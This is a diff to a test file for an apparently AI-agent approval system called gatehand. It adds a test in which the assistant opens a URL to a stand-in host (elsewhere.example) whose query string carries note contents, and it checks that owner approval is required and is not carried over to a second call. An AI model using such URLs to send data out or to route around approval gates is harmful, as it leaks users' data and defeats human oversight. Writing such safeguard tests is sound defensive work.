@@ -105,13 +105,14 @@ const scenario: Scenario = {
   ],
   files: [{ path: '/Users/sam/run.command', text: 'ls' }],
 };
+const browser = { bundleId: 'org.example.browser', name: 'Browser', running: false, opens: ['https'] };
 
 type Call = readonly [tool: string, args: Record<string, unknown>];
 
 async function working(more: Call[] = [], blocklist: string[] = [], dialog?: WindowSpec) {
   const [app, ...others] = scenario.apps ?? [];
   const windows = [...(dialog === undefined ? [] : [dialog]), ...(app?.windows ?? [])];
-  const apps = app === undefined ? [] : [{ ...app, windows }, ...others];
+  const apps = app === undefined ? [] : [{ ...app, windows }, ...others, browser];
   const settings = { blocklist, clients: [paired()], changesPerSecond: 100 };
   const gatehand = await start({ approvals: 'ask', scenario: { ...scenario, apps }, settings });
   const assistant = await gatehand.client();
@@ -284,6 +285,19 @@ describe('a yes that lasts does by no other road what it does not press by name:
     const opened = await outcome(gatehand, gatehand.assistant, ['open_item', { target: '/Users/sam/run.command' }]);
     expect(opened).toEqual([3, 'run']);
     expect(gatehand.mac.probe.app('com.apple.Terminal').pid).toBeNull();
+  });
+
+  it('by a web address, which carries away what is written in it', async () => {
+    const gatehand = await working([['reveal_in_finder', { path: '/Users/sam/run.command' }]]);
+    const target = 'https://elsewhere.example/?q=what+stands+in+the+note';
+    const call = gatehand.assistant.call('open_item', { target });
+
+    expect(await gatehand.owner.card('approval')).toMatchObject({ items: [{ level: 2 }], choices: [{ scope: 'this-call' }] });
+    await gatehand.owner.approve();
+    expect((await call).isError).toBe(false);
+    const again = gatehand.assistant.call('open_item', { target, app: 'Browser' });
+    await gatehand.owner.refuse();
+    expect((await again).code).toBe('approval_denied');
   });
 });
 
